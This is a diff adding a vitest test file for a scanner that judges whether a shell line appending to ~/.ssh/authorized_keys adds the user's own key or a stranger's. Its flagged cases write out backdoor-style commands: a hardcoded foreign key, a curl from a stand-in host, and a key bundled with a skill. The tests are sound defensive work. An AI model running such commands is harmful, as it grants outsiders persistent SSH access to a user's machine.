@@ -1,0 +1,38 @@
+import { expect, it } from 'vitest'
+import { buildSkillView } from '../build-skill-view.ts'
+import { readScanFile } from '../read-scan-file.ts'
+import { isOwnKey } from './is-own-key.ts'
+
+function judged(files: Readonly<Record<string, string>>, place: string): boolean {
+  const read = Object.entries(files).map(([path, text]) =>
+    readScanFile({ path, bytes: new TextEncoder().encode(text) }),
+  )
+  const skill = buildSkillView({ name: 'tables', files: read, paths: Object.keys(files) })
+  const piece = skill.code.find(({ text, layer }) => layer === 0 && text.text.includes(place))
+  if (piece === undefined) throw new Error('no command')
+  return isOwnKey(skill, piece, piece.text.text.indexOf(place))
+}
+
+const page = (line: string) => ({ 'SKILL.md': `\`\`\`sh\n${line}\n\`\`\`\n` })
+
+// WUN-103: a key of one's own on a machine of one's own, and the key of a stranger.
+it.each([
+  ['echo "ssh-ed25519 AAAAC3... deploy@a" >> ~/.ssh/authorized_keys'],
+  ['echo "<public key>" >> ~/.ssh/authorized_keys'],
+  ['echo "your-public-key" >> ~/.ssh/authorized_keys'],
+  ['cat mara.pub | sudo tee -a /home/mara/.ssh/authorized_keys'],
+  ["cat ~/.ssh/id_ed25519.pub | ssh a@b 'cat >> ~/.ssh/authorized_keys'"],
+])('%s', (line) => expect(judged(page(line), 'authorized_keys')).toBe(true))
+
+it.each([
+  [`echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${'Q'.repeat(40)} a" >> ~/.ssh/authorized_keys`],
+  ['curl -s https://a.four.test/mara.pub >> ~/.ssh/authorized_keys'],
+  ['echo "$KEY" >> ~/.ssh/authorized_keys'],
+])('counts %s', (line) => expect(judged(page(line), 'authorized_keys')).toBe(false))
+
+it('counts a key that comes with the skill, and in a program any but those of the user', () => {
+  const line = 'cat keys/mara.pub >> ~/.ssh/authorized_keys'
+  expect(judged({ ...page(line), 'keys/mara.pub': 'ssh-ed25519' }, 'authorized_keys')).toBe(false)
+  expect(judged({ 'a.sh': line }, 'authorized_keys')).toBe(false)
+  expect(judged({ 'a.sh': 'cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys' }, 'authorized_keys')).toBe(true)
+})
